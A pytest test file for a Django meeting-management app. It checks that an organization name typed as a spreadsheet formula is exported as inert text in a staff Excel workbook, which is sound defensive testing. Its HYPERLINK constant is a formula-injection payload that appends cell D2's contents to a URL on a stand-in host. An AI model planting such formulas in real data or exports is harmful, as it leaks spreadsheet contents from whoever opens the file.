"""The Meeting Point's documents for staff: the interpreters' workbook holds what delegates
typed, so it must show it as text, never run it."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.authorization import SYSTEM
from meetings import services
from tests.delegates.test_views import form_data, manage_url
from tests.factories import UserFactory
from tests.helpers import log_in

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.org/?x="&D2,"Open")'


def test_an_organization_typed_as_a_formula_is_text_in_the_interpreters_workbook(
    client, meeting_point, italian, russian
):
    # The delegate renames their organization through the private link.
    response = client.post(
        manage_url(italian, "delegates:edit"),
        form_data(
            email=italian.person.email,
            organization_name=HYPERLINK,
        ),
    )
    assert response.status_code == 302, response.context["form"].errors
    italian.refresh_from_db()
    assert italian.organization.name_latin == HYPERLINK
    services.create_meeting_by_staff(
        meeting_point, italian, russian, 0, 1, interpreter=True, by=SYSTEM
    )

    log_in(client, UserFactory(is_superuser=True))
    response = client.get(
        reverse("meetings:staff_interpreters_xlsx", args=[meeting_point.session.number])
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    organization = next(cell for cell in cells if cell.value == HYPERLINK)
    assert organization.data_type == "s"
    assert organization.quotePrefix  # Excel keeps it text even when the cell is edited
